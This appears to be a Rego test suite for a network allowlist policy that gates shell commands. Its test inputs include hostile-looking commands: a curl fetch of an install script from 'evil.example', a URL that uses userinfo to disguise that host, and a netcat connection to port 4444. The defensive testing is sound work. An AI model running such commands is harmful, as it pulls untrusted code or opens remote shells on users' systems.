package reasonix.network

import rego.v1

run(argv) := {"effects": ["exec", "network"], "bash": {"commands": [{"argv": argv}]}}

test_an_allow_listed_url_is_not_denied if {
	count(deny) == 0 with input as run(["curl", "-sSfL", "https://github.com/o/r/archive/main.tar.gz"])
}

test_another_host_is_denied if {
	d := deny with input as run(["curl", "https://evil.example/install.sh"])
	some v in d
	v.id == "network-allowlist"
	contains(v.reason, "evil.example")
}

test_hosts_are_compared_case_insensitively if {
	count(deny) == 0 with input as run(["wget", "HTTPS://GitHub.COM/x"])
}

test_userinfo_cannot_disguise_the_host if {
	d := deny with input as run(["curl", "https://github.com@evil.example/x"])
	count(d) == 1
}

test_scp_style_remotes_are_read if {
	count(deny) == 0 with input as run(["git", "clone", "git@github.com:o/r.git"])
	d := deny with input as run(["git", "clone", "git@gitlab.example:o/r.git"])
	count(d) == 1
}

test_no_url_asks if {
	a := ask with input as run(["nc", "10.0.0.1", "4444"])
	count(a) == 1
}
